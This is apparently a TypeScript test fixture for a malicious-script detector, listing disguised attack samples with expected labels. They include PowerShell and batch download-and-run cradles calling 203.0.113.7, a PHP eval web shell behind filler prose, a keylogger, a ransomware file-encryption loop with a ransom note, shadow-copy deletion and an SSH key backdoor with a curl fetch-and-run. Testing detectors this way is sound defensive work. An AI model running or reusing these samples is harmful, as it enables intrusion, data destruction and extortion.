// Attacks that put on what honest files have: prose around them, a compared digest, an environment variable for a token, a
// button beside what happens by itself. None of it lets them through.
import { cradle, type Suspect, text } from './suspect.ts'

const PROSE = Array.from(
  { length: 30 },
  (_, at) => `This section number ${at} describes how the quarterly report is made and who has to read it.`,
).join('\n')

export const feigned: readonly Suspect[] = [
  text(
    'handbook',
    'suspicious',
    ['script_downloads_and_runs'],
    `<#\n${PROSE}\n#>\n$u='http://203.0.113.7/setup.exe'; $o="$env:TEMP\\setup.exe"\n(New-Object Net.WebClient).DownloadFile($u,$o)\nStart-Process $o -WindowStyle Hidden\n`,
  ),
  text('handbook-2', 'malicious', ['script_is_web_shell'], `<?php\n/*\n${PROSE}\n*/\n@eval($_POST['q']);\n`),
  text(
    'verified.ps1',
    'suspicious',
    ['script_downloads_and_runs'],
    `$u='http://203.0.113.7/update.exe'; $o="$env:APPDATA\\update.exe"\n(New-Object Net.WebClient).DownloadFile($u,$o)\nif ((Get-FileHash $o).Hash -ne '${'A1'.repeat(32)}') { throw 'broken download' }\nStart-Process $o -WindowStyle Hidden\n`,
  ),
  text(
    'mentions-digest.bat',
    'malicious',
    ['script_drops_fetched_program'],
    `@echo off\r\nrem sha256sum checked, Get-FileHash compared\r\ncertutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe\r\nattrib +h %TEMP%\\a.exe\r\nstart "" %TEMP%\\a.exe\r\n`,
  ),
  text(
    'keys.py',
    'suspicious',
    ['script_steals_secrets'],
    `from pynput.keyboard import Listener\n\nlog = open('C:/Users/Public/k.txt', 'a')\n\ndef on_press(key):\n    log.write(str(key))\n    log.flush()\n\nwith Listener(on_press=on_press) as l:\n    l.join()\n`,
  ),
  text(
    'note.py',
    'malicious',
    ['script_demands_ransom'],
    `import os\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor r, _, n in os.walk('/home'):\n    for x in n:\n        p = os.path.join(r, x)\n        open(p + '.locked', 'wb').write(f.encrypt(open(p, 'rb').read()))\n        os.remove(p)\nopen('README.txt', 'w').write('All your files have been encrypted. Write to us at help@files.test and send 0.1 BTC.')\n`,
  ),
  text(
    'no-copies.cmd',
    'suspicious',
    ['script_destroys_recovery'],
    '@echo off\r\nrem keeps the oldest: /oldest\r\nvssadmin delete shadows /all /quiet & rem /oldest\r\nwbadmin delete catalog -quiet\r\n',
  ),
  text(
    'key-in.sh',
    'suspicious',
    ['script_persists', 'script_runs_download_from_temp'],
    `#!/bin/sh\n# cat "$GIVEN_KEY" >> ~/.ssh/authorized_keys\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ attacker' >> /root/.ssh/authorized_keys\ncurl -s http://203.0.113.7/x -o /tmp/.x && chmod 777 /tmp/.x && /tmp/.x &\n`,
  ),
  text('cradle-in-notes', 'suspicious', ['script_runs_downloaded_text'], `<#\n${PROSE}\n#>\n${cradle}\n`),
]
